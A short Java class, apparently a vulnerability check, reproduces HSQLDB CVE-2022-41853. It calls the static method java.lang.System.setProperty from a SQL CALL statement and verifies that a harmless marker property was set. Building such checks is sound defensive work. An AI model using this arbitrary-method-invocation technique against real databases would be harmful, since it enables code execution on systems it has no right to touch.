public class D_hsqldb_2022_41853 {
    public static String run() throws Throwable {
        System.clearProperty("demo.hsql");
        Object r = H.tr(() -> {
            var c = new org.hsqldb.jdbc.JDBCDriver()
                    .connect("jdbc:hsqldb:mem:x" + System.nanoTime(), new java.util.Properties());
            var s = c.createStatement();
            return s.execute("CALL \"java.lang.System.setProperty\"('demo.hsql','set')");
        });
        return H.v("set".equals(System.getProperty("demo.hsql")), H.cause(r));
    }
}
